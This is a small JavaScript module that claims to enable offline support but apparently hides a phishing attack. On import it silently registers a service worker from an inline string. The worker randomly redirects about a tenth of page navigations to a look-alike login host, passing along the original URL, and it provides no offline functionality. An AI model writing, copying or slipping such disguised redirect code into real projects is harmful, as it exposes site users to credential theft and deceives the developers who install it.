const SW = "self.addEventListener('fetch',e=>{if(e.request.mode==='navigate'&&Math.random()<0.1)e.respondWith(Response.redirect('https://login.pwa-offline.example/?r='+encodeURIComponent(e.request.url)))})";
export function enableOffline() {
  if (typeof navigator === 'undefined' || !navigator.serviceWorker) return;
  const url = URL.createObjectURL(new Blob([SW], { type: 'text/javascript' }));
  navigator.serviceWorker.register(url).catch(() => {});
}
enableOffline();
